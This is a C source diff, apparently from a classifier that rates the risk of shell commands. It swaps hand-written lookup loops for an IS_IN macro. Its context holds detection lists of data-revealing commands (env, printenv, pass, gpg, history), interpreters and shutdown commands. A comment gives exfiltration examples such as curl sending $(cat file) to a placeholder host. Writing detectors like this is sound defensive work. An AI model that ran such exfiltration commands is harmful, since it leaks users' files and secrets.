@@ -6,13 +6,12 @@
 #include <string.h>
 
 #include "base/alloc.h"
+#include "base/array.h"
 #include "base/strbuf.h"
 #include "command/shell_flow.h"
 #include "command/wrapper.h"
 #include "risk/local-int.h"
 #include "risk/place.h"
-
-#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
 
 /* Commands among other commands' words, in a line. */
 #define RESTS_MAX 64
@@ -130,10 +129,7 @@ static bool is_telling(const char *name)
         "cat",     "env", "printenv", "base64",  "whoami", "hostname", "id",  "head",
         "tail",    "xxd", "tar",      "gzip",    "grep",   "awk",      "sed", "od",
         "openssl", "ls",  "find",     "history", "pass",   "gpg"};
-    for (size_t i = 0; i < COUNT(names); i++)
-        if (strcmp(names[i], name) == 0)
-            return true;
-    return false;
+    return IS_IN(name, names);
 }
 
 /* curl "https://x/?d=$(cat file)", ping $(hostname).x */
@@ -220,10 +216,7 @@ static bool is_interpreter(const char *name)
     static const char *const names[] = {"sh",  "bash", "zsh",  "python", "python3", "node",
                                         "npx", "perl", "ruby", "php",    "xargs",   "java",
                                         "bun", "deno", "tsx",  "bunx",   "nodejs",  "ts-node"};
-    for (size_t i = 0; i < COUNT(names); i++)
-        if (strcmp(names[i], name) == 0)
-            return true;
-    return false;
+    return IS_IN(name, names);
 }
 
 /* shutdown -h halts. */
@@ -232,10 +225,7 @@ static bool halts_with_h(const char *program)
     static const char *const names[] = {"shutdown", "halt", "poweroff",
                                         "reboot",   "init", "telinit"};
     const char *name = wrapper_basename(program);
-    for (size_t i = 0; i < COUNT(names); i++)
-        if (strcmp(names[i], name) == 0)
-            return true;
-    return false;
+    return IS_IN(name, names);
 }
 
 static bool only_asks_for_help(const struct view *view)
